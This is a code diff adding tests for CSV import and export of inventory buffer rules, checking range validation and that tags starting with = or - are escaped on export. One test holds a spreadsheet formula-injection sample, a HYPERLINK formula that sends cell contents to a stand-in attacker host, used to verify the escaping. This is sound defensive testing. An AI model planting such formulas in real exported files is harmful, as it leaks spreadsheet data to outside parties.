@@ -86,12 +86,46 @@ describe("CSV import on the Buffers screen", () => {
     expect(await prisma.bufferRule.count({ where: { shopId: shop.id } })).toBe(2);
   });
 
+  it("given tags that start with = and -, when the rules are exported, then those cells are escaped text a spreadsheet will not run; when the file is imported back, then each tag is exactly as it was", async () => {
+    const { shop } = await shopInSession();
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
+    await prisma.bufferRule.createMany({
+      data: [
+        { shopId: shop.id, scope: "TAG", scopeValue: formula, kind: "FIXED", units: 2 },
+        { shopId: shop.id, scope: "TAG", scopeValue: "-clearance", kind: "FIXED", units: 3 },
+      ],
+    });
+    const exported = await (await download(shop.domain, "buffer-rules")).text();
+    expect(exported).toContain(',every channel,tag,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",fixed,2,');
+    expect(exported).toContain(',every channel,tag,"\'-clearance",fixed,3,');
+    expect(exported).not.toMatch(/(^|,)[=+\-@]/m);
+
+    const answer = await post(shop.domain, exported);
+    expect(answer.data).toMatchObject({ ok: true, message: "Imported: 0 rules added, 3 changed; quantities are being recomputed" });
+    const tags = await prisma.bufferRule.findMany({ where: { shopId: shop.id, scope: "TAG" }, orderBy: { units: "asc" } });
+    expect(tags.map((r) => [r.scopeValue, r.units])).toEqual([
+      [formula, 2],
+      ["-clearance", 3],
+    ]);
+  });
+
+  it("given a file with lead time 1e9 days and 1e12 units, when imported, then each is refused on its line naming the range, and nothing is imported", async () => {
+    const { shop } = await shopInSession();
+    const answer = await post(shop.domain, "applies_to,kind,units,lead_time_days,safety_stock\nchannel,fixed,1e12,,\nchannel,velocity,,1e9,4\n");
+    expect(answer.init?.status).toBe(400);
+    expect(answer.data.problems).toEqual([
+      { line: 2, field: "units", message: "Buffer units must be between 0 and 1,000,000" },
+      { line: 3, field: "lead_time_days", message: "Lead time (days) must be between 0 and 365" },
+    ]);
+    expect(await prisma.bufferRule.count({ where: { shopId: shop.id } })).toBe(1);
+  });
+
   it("shows the problems by line and on the file field, and imports nothing", async () => {
     const { shop } = await shopInSession();
     const answer = await post(shop.domain, "applies_to,kind,units\nchannel,fixed,1\nchannel,fixed,-1\n");
     expect(answer.init?.status).toBe(400);
     expect(answer.data.errors.file).toBe("1 problem in the file; nothing was imported");
-    expect(answer.data.problems).toEqual([{ line: 3, field: "units", message: "Buffer units cannot be negative" }]);
+    expect(answer.data.problems).toEqual([{ line: 3, field: "units", message: "Buffer units must be between 0 and 1,000,000" }]);
     expect(await prisma.bufferRule.count({ where: { shopId: shop.id } })).toBe(1);
   });
 
